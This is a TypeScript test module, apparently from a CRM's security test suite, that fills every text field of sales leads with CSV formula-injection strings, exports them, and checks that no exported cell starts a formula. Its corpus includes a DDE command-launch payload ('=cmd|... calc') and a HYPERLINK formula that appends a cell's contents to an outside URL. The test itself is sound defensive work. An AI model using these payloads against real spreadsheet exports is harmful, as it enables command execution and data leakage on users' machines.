import { parse } from 'csv-parse/sync'
import { randomUUID } from 'node:crypto'

import type { Client } from './client.js'
import type { Fault } from './fault.js'

import { expectOK } from './client.js'
import { createLead } from './leads.js'

const STARTERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
const BEFORE = ['', ' ', '"', "'", ',', ';', '\u00A0', '\u200B', '\u3000']

const CORPUS = [
  ...STARTERS.flatMap((starter) => BEFORE.map((before) => `${before}${starter}1+1`)),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com?x="&A1,"Click")',
  '"=1+1"',
  '=1+1";=2+2',
  '\u0000=1+1',
]

/** Behind whatever a spreadsheet may cut off, or right at the start. */
const startsFormula = (cell: string): boolean =>
  /^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r\n]/.test(cell)

const createLeads = async ({ client, mark }: { client: Client; mark: string }): Promise<void> => {
  for (const text of CORPUS) {
    await createLead({
      client,
      data: {
        companyName: `${text} ${mark}`,
        contactName: text,
        lostReason: text,
        notes: text,
        stage: 'closed_lost',
        tags: [text],
        wonReason: text,
      },
    })
  }
}

export const H5: Fault = {
  id: 'H5',
  does: `${CORPUS.length} formulas in every text field of a lead, exported as CSV`,
  goal: 'every lead exported, no cell starts a formula',
  run: async ({ world: open }) => {
    const world = await open()
    const client = await world.signIn()
    const mark = randomUUID()
    await createLeads({ client, mark })
    const file = expectOK(await client.send<string>({ path: `/crm/leads/export?q=${mark}` }))
    const rows: Record<string, string>[] = parse(file, { bom: true, columns: true })
    const cells = rows.flatMap((row) => Object.values(row))
    const bad = cells.filter(startsFormula)
    return {
      details: bad.slice(0, 5).map((cell) => JSON.stringify(cell)),
      figure: `${rows.length} leads, ${cells.length} cells, ${bad.length} start a formula`,
      isReached: rows.length === CORPUS.length && bad.length === 0,
    }
  },
}
